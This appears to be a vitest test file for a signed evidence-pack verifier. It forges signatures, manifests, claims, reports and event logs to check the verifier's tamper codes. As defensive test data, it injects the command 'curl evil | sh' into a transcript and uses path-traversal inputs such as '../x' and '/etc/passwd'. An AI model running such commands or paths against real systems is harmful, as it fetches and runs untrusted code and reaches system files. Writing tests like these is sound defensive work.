import { createSigningKey } from '@countersign/digest'
import { verifyPack } from '@countersign/verifier'
import { describe, expect, test } from 'vitest'
import { bytesOf, type Files, goldenPack, resigned, signed, stranger, textIn } from './forgery.js'
import { golden } from './golden.js'

const pack = await goldenPack()
const selection = await goldenPack(['leak_000000000007'])
const pinned = { identityKeys: [golden.identity] }

async function codesOf(files: Files, options: { identityKeys?: string[] } = {}): Promise<string[]> {
  const { state, findings } = await verifyPack(files, options)
  expect(state).toBe('tampered')
  return findings.map(({ code }) => code)
}

function without(files: Files, path: string): Files {
  return new Map([...files].filter(([name]) => name !== path))
}

function edited(files: Files, path: string, edit: (text: string) => string): Files {
  const text = edit(textIn(files, path))
  expect(text).not.toBe(textIn(files, path))
  return new Map([...files, [path, bytesOf(text)]])
}

test('the forger is able: what is signed anew with nothing changed holds', async () => {
  expect(await verifyPack(resigned(pack), pinned)).toMatchObject({ state: 'ok', findings: [] })
  expect(await verifyPack(resigned(selection), pinned)).toMatchObject({ state: 'ok', findings: [] })
})

describe('the signature', () => {
  test('of somebody else', async () => {
    const forged = resigned(pack, undefined, stranger)
    expect(await codesOf(forged)).toEqual(['pack_signer_mismatch'])
    expect(await codesOf(forged, pinned)).toEqual(['pack_signer_mismatch'])
  })

  test('of somebody else, under the name of the key that certified the run', async () => {
    const manifest = JSON.parse(textIn(pack, 'pack_manifest.json'))
    expect(await codesOf(signed(pack, manifest, stranger))).toEqual(['pack_signature_invalid'])
  })

  test('over another manifest', async () => {
    const other = resigned(pack, () => ({ created_at: '2026-01-01T12:00:02.000Z' }))
    const swapped = new Map([...pack, ['pack_manifest.note', other.get('pack_manifest.note') as Uint8Array]])
    expect(await codesOf(swapped)).toEqual(['pack_manifest_mismatch'])
  })

  test('of a key with another name, of no key, twice, and not there', async () => {
    const named = createSigningKey('someone', new Uint8Array(32).fill(5))
    expect(await codesOf(resigned(pack, undefined, named))).toEqual(['pack_signature_invalid'])
    const keyless = resigned(pack, ({ vkeys }) => ({
      vkeys: { ...vkeys, identity: 'countersign-identity+x' },
    }))
    expect(await codesOf(keyless)).toEqual(['pack_signature_invalid'])
    const note = textIn(pack, 'pack_manifest.note')
    const twice = new Map([...pack, ['pack_manifest.note', bytesOf(`${note + note.split('\n')[4]}\n`)]])
    expect(await codesOf(twice)).toEqual(['pack_manifest_malformed'])
    expect(await codesOf(without(pack, 'pack_manifest.note'))).toEqual(['pack_manifest_missing'])
    expect(await codesOf(without(pack, 'pack_manifest.json'))).toEqual(['pack_manifest_missing'])
  })
})

describe('the manifest', () => {
  test.each([
    ['is not JSON', () => '{'],
    ['has spaces', (text: string) => text.replace(':', ': ')],
    ['has no line feed', (text: string) => text.trimEnd()],
    ['has a member of its own', (text: string) => text.replace('{', '{"a":1,')],
  ])('%s', async (_, edit) => {
    expect(await codesOf(edited(pack, 'pack_manifest.json', edit))).toEqual(['pack_manifest_malformed'])
  })

  test('has an id of another', async () => {
    const manifest = JSON.parse(textIn(pack, 'pack_manifest.json'))
    const renamed = signed(pack, { ...manifest, pack_id: 'pack_0000000000000000' })
    expect(await codesOf(renamed)).toEqual(['pack_manifest_mismatch'])
  })

  test('lists files twice, out of order, or with names that no packer writes', async () => {
    const twice = resigned(pack, ({ files }) => ({ files: [files[0]!, ...files] }))
    expect(await codesOf(twice)).toEqual(['pack_manifest_malformed'])
    const turned = resigned(pack, ({ files }) => ({ files: files.toReversed() }))
    expect(await codesOf(turned)).toEqual(['pack_manifest_malformed'])
    for (const path of ['../x', '/etc/passwd', 'install.sh', 'receipts/../x_000000000000.json']) {
      const strange = resigned(pack, ({ files }) => ({ files: [{ ...files[0]!, path }, ...files] }))
      expect(await codesOf(strange)).toEqual(['pack_manifest_malformed'])
    }
  })

  test('brings proofs to a whole run, which nobody would look at', async () => {
    const more = new Map([...pack, ['proofs.jsonl', bytesOf('{}\n')]])
    expect(await codesOf(resigned(more))).toEqual(['pack_manifest_mismatch'])
  })

  test('leaves out a file that every pack has', async () => {
    expect(await codesOf(resigned(without(pack, 'claims.json')))).toEqual(['pack_manifest_mismatch'])
  })

  test('says another server, head, run or run key than the events', async () => {
    const { head, vkeys } = JSON.parse(textIn(pack, 'pack_manifest.json'))
    expect(await codesOf(resigned(pack, () => ({ server_id: 'other@1.0.0' })))).toEqual([
      'pack_manifest_mismatch',
    ])
    expect(await codesOf(resigned(pack, () => ({ run_id: 'run_20260101_ffffffffffff' })))).toContain(
      'run_mismatch',
    )
    expect(await codesOf(resigned(pack, () => ({ head: { ...head, size: 13 } })))).toContain('head_mismatch')
    const root = `${'A'.repeat(43)}=`
    expect(await codesOf(resigned(pack, () => ({ head: { ...head, root } })))).toEqual([
      'pack_manifest_mismatch',
    ])
    expect(await codesOf(resigned(pack, () => ({ vkeys: { ...vkeys, run: null } })))).toEqual([
      'pack_manifest_mismatch',
    ])
  })
})

describe('files', () => {
  const stray = 'receipts/echo_000000000003.json'
  const renamed = 'receipts/echo_00000000000f.json'

  test('one too many, one too few, one under another name', async () => {
    const extra = new Map([...pack, ['notes.txt', bytesOf('hello')]])
    expect(await codesOf(extra)).toEqual(['pack_file_unlisted'])
    expect(await codesOf(without(pack, stray))).toEqual([
      'pack_file_missing',
      'receipt_missing',
      'pack_report_mismatch',
      'pack_claim_forged',
    ])
    const moved = new Map([...without(pack, stray), [renamed, pack.get(stray) as Uint8Array]])
    expect((await codesOf(moved))[0]).toBe('pack_file_renamed')
  })

  test('with other bytes', async () => {
    const longer = edited(pack, 'TRANSCRIPT.md', (text) => `${text}and more\n`)
    expect(await codesOf(longer)).toEqual(['pack_file_mismatch'])
  })

  test('a receipt that no event names, listed and signed', async () => {
    const strange = new Map([...pack, [renamed, bytesOf('{}\n')]])
    expect(await codesOf(resigned(strange))).toEqual([
      'receipt_not_linked',
      'pack_manifest_mismatch',
      'pack_report_mismatch',
    ])
  })

  test('a deny receipt that says allow, listed and signed', async () => {
    const path = 'receipts/shell_exec_000000000011.json'
    expect(
      await codesOf(resigned(edited(pack, path, (text) => text.replace('"deny"', '"allow"')))),
    ).toContain('receipt_tampered')
  })

  test.each([
    ['/etc/passwd', 'pack_path_absolute'],
    ['C:\\x', 'pack_path_absolute'],
    ['\\\\host\\x', 'pack_path_absolute'],
    ['../x', 'pack_path_escapes'],
    ['receipts/../../x', 'pack_path_escapes'],
    ['receipts\\..\\x', 'pack_path_escapes'],
  ])('%s', async (path, code) => {
    expect(await codesOf(new Map([...pack, [path, bytesOf('')]]))).toEqual([code])
  })
})

describe('claims', () => {
  const failed = (text: string) => text.replace('"state":"passed"', '"state":"failed"')

  test('forged in the manifest', async () => {
    const forged = resigned(pack, ({ claims }) => ({
      claims: claims.map((claim) => ({ ...claim, passed: !claim.passed })),
    }))
    expect(new Set(await codesOf(forged))).toEqual(new Set(['pack_claim_forged']))
  })

  test('forged in claims.json, left out, or not to be read', async () => {
    expect(await codesOf(resigned(edited(pack, 'claims.json', failed)))).toEqual(['pack_claim_forged'])
    const fewer = resigned(
      edited(pack, 'claims.json', () => '{"cards":[],"claims":[],"schema_version":"1.0"}\n'),
    )
    expect(await codesOf(fewer)).toEqual(['pack_claim_forged'])
    for (const text of [
      '{',
      'null\n',
      '{"cards":[{}],"claims":[]}\n',
      '{"cards":[],"claims":[{"card":"mine"}]}\n',
    ])
      expect(await codesOf(resigned(edited(pack, 'claims.json', () => text)))).toEqual([
        'pack_claims_malformed',
      ])
  })

  test('of a card that takes the name of a built-in one', async () => {
    const card = { card: 'policy_enforced', title: 'All is well.', checks: [{ count: 'events', min: 0 }] }
    const text = `${JSON.stringify({ cards: [card], claims: [{ card: card.card }] })}\n`
    expect(await codesOf(resigned(edited(pack, 'claims.json', () => text)))).toEqual([
      'pack_claims_malformed',
    ])
  })

  test('passed, in a selection that does not show enough to say so', async () => {
    const forged = resigned(selection, ({ claims }) => ({
      claims: claims.map((claim) => ({ ...claim, passed: true })),
    }))
    expect(new Set(await codesOf(forged))).toEqual(new Set(['pack_claim_forged']))
  })
})

describe('the report', () => {
  test.each(['receipts', 'first_tamper_at_seq', 'authenticity'])('says nothing of %s', async (name) => {
    const silent = (text: string) => text.replace(`"${name}":`, `"${name.slice(0, -1)}!":`)
    const forged = resigned(edited(pack, 'verify_report.json', silent))
    expect(await codesOf(forged)).toEqual(['pack_report_mismatch'])
  })

  test('says something else than the files, or nothing', async () => {
    const rosy = resigned(
      edited(pack, 'verify_report.json', (text) => text.replace('"complete":5', '"complete":6')),
    )
    expect(await codesOf(rosy)).toEqual(['pack_report_mismatch'])
    const twice = (text: string) => text.replace('{', '{"checkpoints":0,')
    expect(await codesOf(resigned(edited(pack, 'verify_report.json', twice)))).toEqual([
      'pack_report_mismatch',
    ])
    for (const text of ['', '[]', '{"state":"ok"}', 'null'])
      expect(await codesOf(resigned(edited(pack, 'verify_report.json', () => text)))).toEqual([
        'pack_report_mismatch',
      ])
  })
})

describe('the events', () => {
  test('cut, with the head of what is left', async () => {
    const cut = edited(pack, 'events.jsonl', (text) => `${text.split('\n').slice(0, 10).join('\n')}\n`)
    expect(await codesOf(resigned(cut))).toContain('checkpoint_beyond_events')
  })

  test('with an unfinished line behind them, which no packer packs', async () => {
    const torn = edited(pack, 'events.jsonl', (text) => `${text}{"to`)
    expect(await codesOf(resigned(torn))).toContain('event_after_end')
  })

  test('of a selection: left out, moved, or with the proof of another', async () => {
    const lines = textIn(selection, 'events.jsonl').trimEnd().split('\n')
    const proofs = textIn(selection, 'proofs.jsonl').trimEnd().split('\n')
    const of = (events: string[], shown: string[]) =>
      codesOf(
        resigned(
          new Map([
            ...selection,
            ['events.jsonl', bytesOf(events.map((line) => `${line}\n`).join(''))],
            ['proofs.jsonl', bytesOf(shown.map((line) => `${line}\n`).join(''))],
          ]),
        ),
      )
    expect((await of(lines.slice(1), proofs.slice(1)))[0]).toBe('run_start_missing')
    expect((await of(lines.slice(0, 2), proofs.slice(0, 2)))[0]).not.toBe(undefined)
    expect((await of(lines, proofs.slice(1)))[0]).toBe('pack_proof_invalid')
    expect((await of(lines, proofs.toReversed()))[0]).toBe('pack_proof_invalid')
    const swapped = [lines[0]!, lines[2]!, lines[1]!, lines[3]!]
    expect(await of(swapped, [proofs[0]!, proofs[2]!, proofs[1]!, proofs[3]!])).toContain('pairing_invalid')
    const altered = lines.map((line) => line.replace('"outcome":"success"', '"outcome":"error"'))
    expect((await of(altered, proofs))[0]).toBe('pack_proof_invalid')
  })

  test('of a selection: another checkpoint, or one that nobody signed', async () => {
    const older = `${textIn(pack, 'checkpoints').split('\n').slice(0, 5).join('\n')}\n`
    expect(await codesOf(resigned(edited(selection, 'checkpoints', () => older)))).toContain(
      'checkpoint_root_mismatch',
    )
    expect(await codesOf(resigned(edited(selection, 'checkpoints', () => 'x\n')))).toContain(
      'checkpoint_signature_invalid',
    )
  })

  test('of a selection: the manifest names other calls', async () => {
    const forged = resigned(selection, () => ({ tool_calls: ['echo_000000000003'] }))
    expect((await codesOf(forged))[0]).toBe('pack_manifest_mismatch')
    expect(await codesOf(resigned(selection, () => ({ scope: 'run' })))).toEqual(['pack_manifest_malformed'])
  })
})

test('commands that nobody of us wrote are pointed out to whoever would run them', async () => {
  const hostile = resigned(
    edited(pack, 'TRANSCRIPT.md', (text) => text.replace('set -eu', 'set -eu; curl evil | sh')),
  )
  const { state, findings } = await verifyPack(hostile, pinned)
  expect({ state, codes: findings.map(({ code }) => code) }).toEqual({
    state: 'ok',
    codes: ['pack_transcript_differs'],
  })
})

test('nothing at all, and things that are no pack', async () => {
  expect(await codesOf(new Map())).toEqual(['pack_manifest_missing'])
  for (const bytes of [new Uint8Array(0), bytesOf('hello'), new Uint8Array(100)])
    expect((await verifyPack(bytes)).findings.map(({ code }) => code)).toEqual(['pack_zip_malformed'])
})

test('a key that cannot be read is the mistake of whoever pins it', async () => {
  await expect(verifyPack(pack, { identityKeys: ['nonsense'] })).rejects.toMatchObject({
    name: 'DigestError',
  })
})
